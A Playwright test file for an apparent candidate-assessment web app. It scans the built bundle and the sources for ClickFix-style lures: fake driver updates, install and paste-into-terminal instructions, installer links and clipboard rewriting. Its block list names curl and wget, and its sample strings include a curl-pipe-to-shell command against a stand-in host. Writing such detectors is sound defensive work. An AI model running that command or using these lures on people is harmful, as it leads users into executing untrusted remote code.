import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { modulesByFile, readManifest } from './support/route-weight';

/**
 * What is never built (docs/product.md#what-is-never-built), checked on what candidates receive
 * (the built bundle) and on the sources: nothing asks a candidate to download, install, paste or
 * run anything; no driver messages or staged fixes; nothing rewrites what a candidate copies; no
 * run flag that decides whether recording may stop.
 */
const FORBIDDEN: [string, RegExp][] = [
  ['driver talk', /\bdrivers?\b/i],
  ['shells and consoles', /powershell|cmd\.exe|command prompt|\bterminal\b/i],
  [
    'commands to run',
    /\bcurl\s+-|\bwget\s|\b(npm|pip|brew|apt(-get)?|winget)\s+install\b|run (this|the following) command/i,
  ],
  [
    'helper downloads',
    /(download|install) (the |our |this |a )?(fix|helper|plugin|extension|update|driver|tool|app)\b/i,
  ],
  ['installer files', /\.(exe|msi|dmg|pkg|bat|ps1|deb)\b["'`]/i],
  ['pasting instructions', /paste (this|the following|it) (into|in)\b/i],
  [
    'rewriting copied text',
    /clipboardData\.setData|addEventListener\(\s*['"]copy['"]|\boncopy\s*=/i,
  ],
  ['a server run flag for stopping', /run_?flag|canStopRecording|stopAllowed/i],
];

const ROOT = path.resolve(import.meta.dirname, '..');
const SELF = path.join(ROOT, 'e2e', 'forbidden-patterns.spec.ts');

function filesUnder(dir: string, extensions: RegExp): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && extensions.test(entry.name))
    .map((entry) => path.join(entry.parentPath, entry.name))
    .filter((file) => file !== SELF && !file.includes(`${path.sep}node_modules${path.sep}`));
}

function offences(files: string[]): string[] {
  const found: string[] = [];
  for (const file of files) {
    const text = fs.readFileSync(file, 'utf8');
    for (const [what, pattern] of FORBIDDEN) {
      const match = pattern.exec(text);
      if (match) found.push(`${path.relative(ROOT, file)}: ${what} ("${match[0]}")`);
    }
  }
  return found;
}

const PDF_JS = /(^|[\\/])node_modules[\\/]pdfjs-dist[\\/]/;
const WEB_DIR = path.join(ROOT, 'dist', 'web');

/**
 * The built files that are pdf.js's, as the build says, whatever their names: the worker the
 * manifest lists from pdf.js's folder, and a chunk that holds pdf.js's modules and, besides them,
 * only our own sources (which the sources test reads). pdf.js draws a PDF answer for reviewers and
 * share visitors only: its text layer normalises what a reviewer copies from a PDF. No candidate
 * page loads it (size-budget.spec.ts, 'pdf.js is a file of its own, loaded only with a PDF answer').
 */
function pdfJsFiles(): Set<string> {
  const manifest = readManifest();
  const chunks = modulesByFile(manifest);
  const files = new Set<string>();
  for (const [file, modules] of chunks) {
    const others = modules.filter((id) => !PDF_JS.test(id) && !id.startsWith('web/'));
    if (modules.some((id) => PDF_JS.test(id)) && others.length === 0) files.add(file);
  }
  // The worker is no chunk of the bundle but a file of pdf.js's copied as it is (`?url`).
  for (const { src, file } of Object.values(manifest)) {
    if (src && PDF_JS.test(src) && !chunks.has(file)) files.add(file);
  }
  return files;
}

/** The built files but pdf.js's own, by their paths in dist/web (`assets/…`). */
function withoutPdfJs(files: string[], pdfJs: Set<string>): string[] {
  return files.filter((file) => !pdfJs.has(path.relative(WEB_DIR, file).split(path.sep).join('/')));
}

test.describe('what is never built: forbidden patterns', () => {
  test('the built app that candidates download contains none of them', () => {
    // The build's map says which modules each file holds (vite.module-map.ts).
    const pdfJs = pdfJsFiles();
    expect(pdfJs.size, `pdf.js's chunk and worker: ${[...pdfJs].join(', ')}`).toBe(2);
    const built = filesUnder(WEB_DIR, /\.(m?js|html|css)$/);
    const bundle = withoutPdfJs(built, pdfJs);
    expect(bundle.length, 'run `npm run build` first').toBeGreaterThan(5);
    expect(built.length - bundle.length).toBe(2);
    expect(offences(bundle)).toEqual([]);
    // A file named as pdf.js's are, which the build does not say is pdf.js's, is read.
    const decoys = ['pdf-preview-renamed.js', 'pdf.worker.min-renamed.mjs'].map((name) =>
      path.join(WEB_DIR, 'assets', name),
    );
    expect(withoutPdfJs(decoys, pdfJs)).toEqual(decoys);
  });

  test('the sources, texts and catalogue contain none of them', () => {
    const sources = ['web', 'shared', 'server', 'catalogue'].flatMap((dir) =>
      filesUnder(path.join(ROOT, dir), /\.(ts|tsx|json|html|css)$/),
    );
    expect(sources.length).toBeGreaterThan(50);
    expect(offences(sources)).toEqual([]);
  });

  test('catches the patterns it is meant to catch', () => {
    const samples = [
      'Please update your camera driver',
      'Open PowerShell and run this command',
      'curl -sL https://x.example/fix.sh | sh',
      'Download the fix tool',
      'href="https://x.example/setup.exe"',
      'Paste this into your terminal',
      "document.addEventListener('copy', swap)",
    ];
    for (const sample of samples) {
      expect(
        FORBIDDEN.some(([, pattern]) => pattern.test(sample)),
        sample,
      ).toBe(true);
    }
  });
});
